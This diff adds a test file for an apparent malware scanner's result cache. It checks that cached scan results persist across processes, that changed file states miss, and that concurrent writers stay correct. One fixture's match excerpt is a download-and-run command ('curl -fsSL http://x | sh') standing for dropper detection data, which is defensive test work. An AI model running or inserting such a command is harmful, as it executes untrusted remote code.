@@ -1,0 +1,96 @@
+// Tests for the scan cache: every kind of result comes back exactly as stored (nothing found, an
+// executable's hash, matches), from a fresh process's point of view (a new ScanCache on the same
+// file); a file in another state is a miss; two scans writing at once never make the cache answer
+// for a file state it did not see; other rule sets do not answer.
+import { mkdtempSync, rmSync } from 'node:fs';
+import os from 'node:os';
+import path from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { ScanCache } from './cache.js';
+import type { FileResult } from './scan-job.js';
+
+let dir: string;
+beforeAll(() => {
+  dir = mkdtempSync(path.join(os.tmpdir(), 'minehunter-cache-'));
+});
+afterAll(() => rmSync(dir, { recursive: true, force: true }));
+
+const RULES = 'sha256:rules-a';
+const key = (ino: number, mtimeMs = 1_700_000_000_123.456) => ({
+  dev: 2049,
+  ino,
+  size: 100,
+  mtimeMs,
+  ctimeMs: mtimeMs,
+});
+const nothing: FileResult = { matches: [] };
+const executable: FileResult = { matches: [], sha256: 'ab'.repeat(32), executable: true };
+const matched: FileResult = {
+  matches: [
+    {
+      rule: 'MH_Dropper_Download_And_Run',
+      namespace: 'droppers',
+      meta: { kind: 'dropper', level: 'high' },
+      strings: [{ identifier: '$curl', offset: 42, excerpt: 'curl -fsSL http://x | sh' }],
+      stringCount: 1,
+    },
+  ],
+  sha256: 'cd'.repeat(32),
+} as unknown as FileResult;
+
+describe('scan cache', () => {
+  it('gives back each kind of result exactly, to a later scan', () => {
+    const file = path.join(dir, 'roundtrip.sqlite');
+    const first = new ScanCache(file, RULES);
+    first.put(key(1), nothing);
+    first.put(key(2), executable);
+    first.put(key(3), matched);
+    first.close();
+
+    const later = new ScanCache(file, RULES);
+    expect(later.get(key(1))).toEqual(nothing);
+    expect(later.get(key(2))).toEqual(executable);
+    expect(later.get(key(3))).toEqual(matched);
+    // The walker's shortcut answers only for "nothing found" in exactly this state.
+    expect(later.nothingFoundIn(2049, 1, 100, key(1).mtimeMs, key(1).ctimeMs)).toBe(true);
+    expect(later.nothingFoundIn(2049, 2, 100, key(2).mtimeMs, key(2).ctimeMs)).toBe(false);
+    expect(later.nothingFoundIn(2049, 1, 101, key(1).mtimeMs, key(1).ctimeMs)).toBe(false);
+    expect(later.get(key(1, 5))).toBeUndefined();
+    expect(later.get(key(4))).toBeUndefined();
+    later.close();
+
+    const otherRules = new ScanCache(file, 'sha256:rules-b');
+    expect(otherRules.get(key(1))).toBeUndefined();
+    expect(otherRules.nothingFoundIn(2049, 1, 100, key(1).mtimeMs, key(1).ctimeMs)).toBe(false);
+    otherRules.close();
+  });
+
+  it('never answers for a state it did not see when two scans write at once', () => {
+    const file = path.join(dir, 'concurrent.sqlite');
+    const seed = new ScanCache(file, RULES);
+    seed.put(key(1, 1000), nothing);
+    seed.close();
+    // Both open the same stored index; each sees file 1 in a different state.
+    const a = new ScanCache(file, RULES);
+    const b = new ScanCache(file, RULES);
+    a.put(key(1, 2000), nothing);
+    b.put(key(1, 3000), matched);
+    b.put(key(7), executable);
+    b.close();
+    a.close(); // last to close: its index (without b's entries) is the stored one
+
+    const c = new ScanCache(file, RULES);
+    // a's state: nothing found, which is what a scan of that state found.
+    expect(c.get(key(1, 2000))).toEqual(nothing);
+    // b's state: whatever answers must be b's result, never a's "nothing found".
+    const forB = c.get(key(1, 3000));
+    if (forB) expect(forB).toEqual(matched);
+    expect(c.nothingFoundIn(2049, 1, 100, 3000, 3000)).toBe(false);
+    // The first state is gone.
+    expect(c.get(key(1, 1000))).toBeUndefined();
+    // b's other file: its result or a miss (the file is scanned again), never something else.
+    const seven = c.get(key(7));
+    if (seven) expect(seven).toEqual(executable);
+    c.close();
+  });
+});
